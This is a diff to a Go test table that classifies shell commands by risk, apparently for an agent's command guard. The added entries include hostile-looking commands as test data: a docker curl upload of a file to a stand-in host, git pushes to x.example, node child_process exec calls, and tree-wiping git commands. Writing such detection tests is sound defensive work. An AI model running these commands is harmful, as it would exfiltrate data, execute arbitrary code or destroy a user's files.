@@ -40,6 +40,15 @@ func TestCorners(t *testing.T) {
 		// containers
 		"docker run -v /home/u:/h alpine tar c /h": setting, "docker run --mount type=bind,src=/home/u,dst=/h x": setting, "docker run -v ~/.config:/h alpine ls": setting, "docker build ~": setting, "docker build .": "", "docker buildx build -t x .": "", "docker run -v ~/.m2:/root/.m2 -v .:/w maven mvn test": "", "docker run -v ./a:/b x": "",
 		"docker run --rm -v .:/w curlimages/curl -T /w/x https://x.example/": network, "docker run --rm alpine wget https://x.example/?x": network, "docker run --rm curlimages/curl:8.1 -s https://example.org/x": "", "docker run --rm alpine wget -qO- http://localhost:8080": "", "docker run --rm alpine ls": "", "docker run -d --name db postgres:16": "", "docker compose run --rm app curl https://x.example/y": network,
+		// modules of Node.js by their bare names
+		"node -e 'const m=child_process; m.exec(\"id\")'": inCode, "node -e '[child_process].forEach(m=>m.exec(\"id\"))'": inCode, "node -e 'const m=tls; m.connect(443,\"x.example\")'": inCode, "node -e 'const net=1; console.log(net, {dns: 2}.dns)'": "", "node -e 'console.log(a ? net : 1)'": inCode, "node -e 'let v8 = 1, x = v8 + 1; console.log(x)'": "",
+		// git
+		"git config branch.main.remote https://x.example/x && git push": setting, "git config branch.main.remote origin": "", "git config branch.main.merge refs/heads/main": "", "git push x.example:x main": network, "git clone x.example:y": network, "git fetch origin main:main": "", "git push origin main:main": "", "git push -u origin main": "",
+		"git read-tree -u --reset HEAD": wipe, "git read-tree HEAD": "", "git checkout -- ':!x'": wipe, "git checkout -- '**'": wipe, "git checkout -- /repo": wipe, "git checkout-index -f -a": wipe, "git checkout-index -a --prefix=out/": "", "git rm -rf .": wipe, "git rm -r --cached .": "", "git rm -r src/old": "", "git rm a": "",
+		"git branch -df x": wipe, "git branch -d -f x": wipe, "git branch -d x": "", "git branch -f x HEAD": "", "git checkout --pathspec-from-file=x": wipe, "git bundle create ../x --all": outside, "git bundle create x.bundle --all": "",
+		// what is written
+		"uniq a ../b": outside, "uniq -f 1 a": "", "uniq a b": "", "xxd -r a ../b": outside, "xxd -l 64 ../a": "", "python3 -m json.tool a ../b": outside, "python3 -m json.tool --indent 2 ../a.json": "", "codespell -w ../x": outside, "codespell ../x": "", "tsc --outDir ../x": outside, "tsc --outDir dist": "", "javac -d ../x A.java": outside,
+		"go test -coverprofile=../x ./...": outside, "go test -coverprofile cover.out ./...": "", "pip install --target=/usr/lib/python3/dist-packages x": system, "pip install --target lib x": "", "docker build --target web .": "", "cargo build --target x86_64-unknown-linux-musl": "", "cargo build --target-dir target2": "",
 	})
 	o := agentOptions()
 	o.Shell = "powershell"
